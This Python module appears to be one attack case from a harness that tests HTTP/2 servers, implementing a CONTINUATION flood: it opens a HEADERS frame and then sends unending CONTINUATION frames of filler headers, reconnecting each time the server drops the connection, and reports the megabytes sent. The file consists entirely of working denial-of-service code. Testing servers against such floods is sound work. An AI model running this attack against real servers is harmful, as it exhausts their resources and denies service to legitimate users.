"""Send a header block that never ends: CONTINUATION frames with headers, on connection after connection."""

import time

from http2_connection import CONTINUATION, HEADERS, connect, frame, header_block
from target import Target

FLAGS: tuple[str, ...] = ()
MIN_RATE = 0.6
BEFORE = "good callers at 0.43 of their rate"

_FRAMES_AT_A_TIME = 20
_FRAME_BYTES = 16_000


async def attack(target: Target, seconds: float) -> str:
    """Send continuations until the time is over, on a new connection whenever the server closes one."""
    end = time.monotonic() + seconds
    nbytes = connections = 0
    piece = header_block(((b"x-filler", bytes(120)),) * (_FRAME_BYTES // 131))
    while time.monotonic() < end:
        connections += 1
        async with connect(target.address) as connection:
            connection.send(frame(HEADERS, 0, 1, header_block(((b":method", b"POST"),))))
            while time.monotonic() < end and not connection.closed.is_set():
                connection.send(frame(CONTINUATION, 0, 1, piece) * _FRAMES_AT_A_TIME)
                try:
                    await connection.flush()
                except ConnectionError:
                    break
                nbytes += _FRAMES_AT_A_TIME * len(piece)
    return f"{nbytes / 1e6:.0f} MB of headers on {connections} connections"
